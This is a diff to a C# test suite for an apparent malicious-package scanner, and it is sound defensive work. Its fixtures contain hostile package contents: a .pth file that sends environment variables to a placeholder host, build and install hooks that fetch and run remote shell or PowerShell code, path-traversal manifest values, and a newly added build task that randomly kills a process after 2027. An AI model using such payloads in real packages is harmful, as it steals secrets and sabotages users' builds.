@@ -30,6 +30,7 @@ public sealed class PackageScanTests
         { "runs when it is imported", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", Steals] },
         { "path file: every start of Python", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a.pth", "import os, urllib.request; urllib.request.urlopen('http://192.0.2.9/u', data=str(dict(os.environ)).encode())\n"] },
         { "runs in every build of a project that uses the package", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "build/A.targets", "<Project><Target Name=\"t\"><Exec Command=\"curl -s http://192.0.2.9/x | sh\" /></Target></Project>"] },
+        { "runs in every build of a project that uses the package", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "build/A.targets", "<Project><UsingTask TaskName=\"T\" TaskFactory=\"RoslynCodeTaskFactory\"><Task><Code>1</Code><Code>if (DateTime.Now > new DateTime(2027, 1, 1) &amp;&amp; new Random().Next(5) == 1) p.Kill();</Code></Task></UsingTask></Project>"] },
         { "Visual Studio runs it when the package is installed", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "tools/init.ps1", "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.9/x')"] },
     };
 
@@ -94,6 +95,7 @@ public sealed class PackageScanTests
     [InlineData("Python 2 and mixed indentation")]
     [InlineData("a bundle of 20 MB")]
     [InlineData("a manifest that lies")]
+    [InlineData("loops without end")]
     public async Task What_is_hard_to_read_has_a_report_within_the_time(string what)
     {
         string[] files = what switch
@@ -102,6 +104,7 @@ public sealed class PackageScanTests
             "10,000 brackets" => ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/index.js", StealsToo + new string('(', 10_000) + new string(')', 10_000)],
             "invalid UTF-8" => ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", Steals + "x = '\ud800'\n"],
             "Python 2 and mixed indentation" => ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", "print 'a'\nif 1:\n\tx = 1\n        y = 2\nexec 'z = 3'\n" + Steals],
+            "loops without end" => ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/index.js", StealsToo + string.Concat(Enumerable.Repeat("for(;;){if(a)break}\n", 40_000))],
             "a bundle of 20 MB" => ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/index.js", StealsToo + string.Concat(Enumerable.Repeat("function f(a){return a+1};f(f(2));", 620_000))],
             _ => ["package/package.json", """{"name":"a","version":"1.0.0","main":"../../../etc/passwd","bin":{"x":"/../../y"},"dependencies":[1,2]}""", "package/index.js", StealsToo],
         };
